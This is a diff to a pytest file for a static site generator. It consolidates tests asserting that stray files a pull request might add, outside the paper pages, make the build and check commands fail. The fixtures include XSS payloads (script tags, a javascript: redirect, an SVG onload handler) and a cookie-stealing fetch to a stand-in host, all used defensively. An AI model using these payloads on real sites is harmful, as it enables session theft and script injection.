@@ -868,11 +868,11 @@ def test_a_failed_write_leaves_each_page_old_or_new_and_no_temp_files(
     calls = {"n": 0}
     real_write_temp = writer._write_temp
 
-    def failing_write_temp(path: Path, data: bytes, sync: bool) -> Path:
+    def failing_write_temp(path: Path, data: bytes, sync: bool, made: set[Path]) -> Path:
         calls["n"] += 1
         if calls["n"] == 7:  # the disk fills up while the seventh page is written
             raise OSError(28, "No space left on device")
-        return real_write_temp(path, data, sync)
+        return real_write_temp(path, data, sync, made)
 
     monkeypatch.setattr(writer, "_write_temp", failing_write_temp)
     code, _, err = cli(["generate", "--root", str(config.root)])
@@ -1077,47 +1077,48 @@ def test_a_key_the_theme_acts_on_is_an_error_on_its_line(
     assert tree(generated_seed.root) == before
 
 
-STRAY_PAGES = {
-    "site_src/about.md": "---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n",
-    "site_src/papers/sub/x.md": "---\nid: sub\ntitle: Nested\n---\n<script>alert(1)</script>\n",
-    "site_src/notes.markdown": "Hello <script>alert(1)</script>\n",
-    "site_src/assets/readme.md": "A page among the assets.\n",
+NOTHING_CHECKS = "is neither a paper page"
+RUNS_IN_A_BROWSER = "file, which the site would publish as it is"
+#: Files a pull request might add beside the paper pages: (content, the error they get).
+STRAYS = {
+    "site_src/about.md": (
+        "---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n",
+        NOTHING_CHECKS,
+    ),
+    "site_src/papers/sub/x.md": (
+        "---\nid: sub\ntitle: Nested\n---\n<script>alert(1)</script>\n",
+        NOTHING_CHECKS,
+    ),
+    "site_src/notes.markdown": ("Hello <script>alert(1)</script>\n", NOTHING_CHECKS),
+    "site_src/assets/readme.md": ("A page among the assets.\n", NOTHING_CHECKS),
+    "site_src/login.html": ("<script>alert(1)</script>", f"is a .html {RUNS_IN_A_BROWSER}"),
+    "site_src/papers/steal.js": (
+        "fetch('https://example.org/?' + document.cookie)",
+        f"is a .js {RUNS_IN_A_BROWSER}",
+    ),
+    "site_src/tags/x.svg": (
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+        f"is a .svg {RUNS_IN_A_BROWSER}",
+    ),
+    "site_src/papers/Page.HTM": ("<script>alert(1)</script>", f"is a .htm {RUNS_IN_A_BROWSER}"),
+    "site_src/feeds/evil.xml": (
+        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+        f"is a .xml {RUNS_IN_A_BROWSER}",
+    ),
 }
 
 
-@pytest.mark.parametrize("path", STRAY_PAGES)
+@pytest.mark.parametrize("path", STRAYS)
 @pytest.mark.parametrize("command", ["build", "check"])
-def test_a_page_outside_papers_that_nothing_lists_is_an_error(
+def test_a_file_outside_papers_that_nothing_checks_is_an_error(
     generated_seed: Config, path: str, command: str
 ) -> None:
+    content, message = STRAYS[path]
     (generated_seed.root / path).parent.mkdir(parents=True, exist_ok=True)
-    (generated_seed.root / path).write_text(STRAY_PAGES[path], encoding="utf-8")
+    (generated_seed.root / path).write_text(content, encoding="utf-8")
     code, _, err = cli([command, "--root", str(generated_seed.root)])
     assert code == 1
-    assert f"{path}: error: is neither a paper page" in err
-    assert not generated_seed.site_dir.exists()
-
-
-STRAY_FILES = {
-    "site_src/login.html": "<script>alert(1)</script>",
-    "site_src/papers/steal.js": "fetch('https://example.org/?' + document.cookie)",
-    "site_src/tags/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-    "site_src/papers/Page.HTM": "<script>alert(1)</script>",
-    "site_src/feeds/evil.xml": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
-}
-
-
-@pytest.mark.parametrize("path", STRAY_FILES)
-@pytest.mark.parametrize("command", ["build", "check"])
-def test_a_file_a_browser_would_run_outside_assets_is_an_error(
-    generated_seed: Config, path: str, command: str
-) -> None:
-    (generated_seed.root / path).parent.mkdir(parents=True, exist_ok=True)
-    (generated_seed.root / path).write_text(STRAY_FILES[path], encoding="utf-8")
-    code, _, err = cli([command, "--root", str(generated_seed.root)])
-    assert code == 1
-    suffix = path.rpartition(".")[2].lower()
-    assert f"{path}: error: is a .{suffix} file, which the site would publish as it is" in err
+    assert f"{path}: error: {message}" in err
     assert not generated_seed.site_dir.exists()
 
 
